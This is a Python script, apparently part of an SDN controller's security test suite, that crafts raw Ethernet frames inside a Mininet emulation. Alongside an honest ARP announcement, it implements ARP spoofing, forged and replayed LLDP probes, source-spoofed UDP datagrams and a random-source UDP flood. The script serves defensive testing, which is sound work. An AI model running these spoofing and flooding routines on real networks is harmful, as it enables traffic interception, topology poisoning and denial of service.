"""Raw Ethernet frames from a Mininet host: a host's honest announcement, and the
hostile frames of the attack suite (tests/test_attacks.py, docs/security.md).

Run inside a Mininet host (`host.cmd(...)` / `host.popen(...)`), as root; it
writes frames with an AF_PACKET socket bound to one interface, so nothing of
the host's IP stack is involved and every field is the caller's to choose:

    wire.py announce --iface h1-eth0 --ip 10.0.0.1 --mac 00:..:01
        one gratuitous ARP request (sender = target = the host's own address):
        how a host that has just come up tells the network where it is.
    wire.py garp --iface IF --ip VICTIM_IP --mac MY_MAC --count 20 --reply
        ARP spoofing: gratuitous ARP claiming another host's address.
    wire.py lldp --iface IF --switch NAME --port N --count 10 [--sign-with HEX]
        forged LLDP probes claiming to come from switch NAME port N, unsigned or
        signed with a guessed secret.
    wire.py capture-lldp --iface IF --out FILE --timeout 10
        keep the first LLDP frame this host receives (the controller's probe of
        its own port), to be replayed elsewhere (`replay`).
    wire.py replay --iface IF --frame FILE --count 5
        send the frame in FILE, as it is.
    wire.py udp --iface IF --src-ip A --src-mac M --dst-ip G --dst-port P --count 500 --tag forged
        UDP datagrams with a forged source (e.g. a job's PS) to a group or host,
        in the emulation's datagram format (emu_traffic.py) tagged as job `--tag`
        in run `--run`: a receiver that gets one reports it as a stream of its own.
    wire.py flood --iface IF --dst-ip G --dst-port P --count 20000
        UDP datagrams from `--count` random source addresses and MACs.

Prints one JSON line: what was sent (or captured).
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import select
import socket
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

ETH_ARP = 0x0806
ETH_LLDP = 0x88CC
BROADCAST = "ff:ff:ff:ff:ff:ff"
MIN_FRAME = 60


def _mac(text: str) -> bytes:
    raw = bytes.fromhex(text.replace(":", "").replace("-", ""))
    if len(raw) != 6:
        raise argparse.ArgumentTypeError(f"not a MAC address: {text!r}")
    return raw


def _pad(frame: bytes) -> bytes:
    return frame + bytes(max(0, MIN_FRAME - len(frame)))


def arp_frame(src_mac: str, sender_ip: str, target_ip: str, *, reply: bool, dst_mac: str = BROADCAST) -> bytes:
    """A gratuitous ARP (request or reply) from `src_mac` saying `sender_ip` is at `src_mac`."""
    me = _mac(src_mac)
    arp = (b"\x00\x01\x08\x00\x06\x04" + (b"\x00\x02" if reply else b"\x00\x01") + me
           + ipaddress.IPv4Address(sender_ip).packed
           + (_mac(dst_mac) if reply else bytes(6)) + ipaddress.IPv4Address(target_ip).packed)
    return _pad(_mac(dst_mac) + me + ETH_ARP.to_bytes(2, "big") + arp)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_frame(src_mac: str, src_ip: str, dst_ip: str, dst_port: int, payload: bytes, *, src_port: int = 40000,
              dst_mac: str | None = None) -> bytes:
    """An Ethernet/IPv4/UDP frame; to a multicast group: its multicast MAC (RFC 1112)."""
    from controller.addressing.groups import group_mac

    dst = ipaddress.IPv4Address(dst_ip)
    if dst_mac is None:
        if not dst.is_multicast:
            raise ValueError("a unicast destination needs --dst-mac")
        dst_mac = group_mac(dst)
    udp = (src_port.to_bytes(2, "big") + dst_port.to_bytes(2, "big") + (8 + len(payload)).to_bytes(2, "big")
           + b"\0\0" + payload)  # UDP checksum 0: none (IPv4)
    header = (b"\x45\x00" + (20 + len(udp)).to_bytes(2, "big") + b"\x00\x00\x40\x00\x40\x11\x00\x00"
              + ipaddress.IPv4Address(src_ip).packed + dst.packed)
    header = header[:10] + _checksum(header).to_bytes(2, "big") + header[12:]
    return _pad(_mac(dst_mac) + _mac(src_mac) + b"\x08\x00" + header + udp)


def _datagram(tag: str, run: int, seq: int) -> bytes:
    """A datagram in the emulation's format (emu_traffic.HEADER), of job `tag`."""
    from emu_traffic import HEADER, MAGIC, tag_bytes  # this folder is on sys.path (a script's own)

    return HEADER.pack(MAGIC, run, tag_bytes(tag), seq, time.monotonic()) + bytes(64)


def _random_source() -> tuple[str, str]:
    raw = os.urandom(10)
    mac = bytes([raw[0] & 0xFE | 0x02]) + raw[1:6]  # unicast, locally administered
    ip = ipaddress.IPv4Address(bytes([10, raw[6] | 1, raw[7], raw[8] | 1]))
    return ":".join(f"{b:02x}" for b in mac), str(ip)


def _socket(iface: str, proto: int = 0) -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto))
    s.bind((iface, proto))
    return s


def send(iface: str, frames: list[bytes], gap_s: float = 0.01) -> int:
    with _socket(iface) as s:
        for frame in frames:
            s.send(frame)
            if gap_s:
                time.sleep(gap_s)
    return len(frames)


def capture(iface: str, ethertype: int, timeout: float) -> bytes | None:
    """The first frame of `ethertype` that arrives on `iface` within `timeout` s."""
    deadline = time.monotonic() + timeout
    with _socket(iface, ethertype) as s:
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([s], [], [], left)
            if not ready:
                break
            frame, addr = s.recvfrom(65535)
            if addr[2] != socket.PACKET_OUTGOING and int.from_bytes(frame[12:14], "big") == ethertype:
                return frame
    return None


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    a = sub.add_parser("announce")
    a.add_argument("--iface", required=True)
    a.add_argument("--ip", required=True)
    a.add_argument("--mac", required=True)
    g = sub.add_parser("garp")
    g.add_argument("--iface", required=True)
    g.add_argument("--ip", required=True, help="the address claimed")
    g.add_argument("--mac", required=True, help="the MAC it is claimed to be at")
    g.add_argument("--count", type=int, default=20)
    g.add_argument("--reply", action="store_true", help="gratuitous replies instead of requests")
    g.add_argument("--gap", type=float, default=0.05)
    lp = sub.add_parser("lldp")
    lp.add_argument("--iface", required=True)
    lp.add_argument("--switch", required=True)
    lp.add_argument("--port", type=int, required=True)
    lp.add_argument("--count", type=int, default=10)
    lp.add_argument("--sign-with", default=None, help="a guessed secret (hex) to sign with")
    c = sub.add_parser("capture-lldp")
    c.add_argument("--iface", required=True)
    c.add_argument("--out", required=True)
    c.add_argument("--timeout", type=float, default=10.0)
    r = sub.add_parser("replay")
    r.add_argument("--iface", required=True)
    r.add_argument("--frame", required=True)
    r.add_argument("--count", type=int, default=5)
    u = sub.add_parser("udp")
    u.add_argument("--iface", required=True)
    u.add_argument("--src-ip", required=True)
    u.add_argument("--src-mac", required=True)
    u.add_argument("--dst-ip", required=True)
    u.add_argument("--dst-mac", default=None)
    u.add_argument("--dst-port", type=int, required=True)
    u.add_argument("--count", type=int, default=500)
    u.add_argument("--tag", default="forged")
    u.add_argument("--run", type=int, default=0)
    u.add_argument("--gap", type=float, default=0.002)
    f = sub.add_parser("flood")
    f.add_argument("--iface", required=True)
    f.add_argument("--dst-ip", required=True)
    f.add_argument("--dst-mac", default=None)
    f.add_argument("--dst-port", type=int, required=True)
    f.add_argument("--count", type=int, default=20000)
    f.add_argument("--tag", default="flood")
    f.add_argument("--run", type=int, default=0)
    args = p.parse_args(argv)

    if args.cmd == "announce":
        n = send(args.iface, [arp_frame(args.mac, args.ip, args.ip, reply=False)], 0)
        out = {"sent": n}
    elif args.cmd == "garp":
        frame = arp_frame(args.mac, args.ip, args.ip, reply=args.reply)
        out = {"sent": send(args.iface, [frame] * args.count, args.gap)}
    elif args.cmd == "lldp":
        from controller.southbound import lldp

        src = "02:" + os.urandom(5).hex(":")
        if args.sign_with is None:
            frames = [lldp.lldp_frame(args.switch, args.port, src) for _ in range(args.count)]
        else:
            signer = lldp.ProbeSigner(bytes.fromhex(args.sign_with))
            frames = [signer.frame(args.switch, args.port, src) for _ in range(args.count)]
        out = {"sent": send(args.iface, frames, 0.05)}
    elif args.cmd == "capture-lldp":
        frame = capture(args.iface, ETH_LLDP, args.timeout)
        if frame is not None:
            Path(args.out).write_bytes(frame)
        out = {"captured": frame is not None, "bytes": len(frame or b"")}
    elif args.cmd == "udp":
        frames = [udp_frame(args.src_mac, args.src_ip, args.dst_ip, args.dst_port, _datagram(args.tag, args.run, i),
                            dst_mac=args.dst_mac) for i in range(args.count)]
        out = {"sent": send(args.iface, frames, args.gap)}
    elif args.cmd == "flood":
        frames = []
        for i in range(args.count):
            mac, ip = _random_source()
            frames.append(udp_frame(mac, ip, args.dst_ip, args.dst_port, _datagram(args.tag, args.run, i),
                                    dst_mac=args.dst_mac))
        t0 = time.monotonic()
        out = {"sent": send(args.iface, frames, 0), "seconds": round(time.monotonic() - t0, 3)}
    else:
        frame = Path(args.frame).read_bytes()
        out = {"sent": send(args.iface, [frame] * args.count, 0.05)}
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
